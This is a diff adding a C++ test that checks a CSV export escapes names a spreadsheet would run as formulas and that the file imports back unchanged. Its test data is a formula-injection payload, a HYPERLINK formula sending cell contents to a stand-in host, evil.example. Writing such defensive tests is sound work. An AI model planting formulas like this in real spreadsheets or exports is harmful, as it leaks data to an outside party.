@@ -85,5 +85,22 @@ TEST_P(ImportApi, ExportReturnsTheImportFormat) {
   EXPECT_EQ(xlsx.body.substr(0, 2), "PK");  // an XLSX file is a zip archive
 }
 
+// A name that a spreadsheet would run as a formula leaves the CSV export as text, and the export imports
+// back unchanged.
+TEST_P(ImportApi, ExportedCellsNeverRunAsFormulas) {
+  Client hr = logged_in("hr-a");
+  const std::string name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
+  boost::json::object unit{{"code", "EVIL"}, {"name", name}, {"kind", "team"}, {"parent_id", unit_id("GM9001", "SD")}};
+  ASSERT_EQ(hr.post("/api/v1/units", boost::json::serialize(unit)).status, 201u);
+  const HttpResult csv = hr.get("/api/v1/export/units?format=csv");
+  ASSERT_EQ(csv.status, 200u);
+  EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos) << csv.body;
+  EXPECT_NE(csv.body.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\","), std::string::npos) << csv.body;
+  const HttpResult again = hr.post("/api/v1/import/units", csv.body, "text/csv");
+  ASSERT_EQ(again.status, 200u) << again.body;
+  EXPECT_EQ(again.json().at("unchanged").as_int64(), again.json().at("imported").as_int64()) << again.body;
+  EXPECT_EQ(count("SELECT COUNT(*) FROM units WHERE code = 'EVIL' AND name = '" + std::string("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") + "'"), 1);
+}
+
 }  // namespace
 }  // namespace kwm::testing
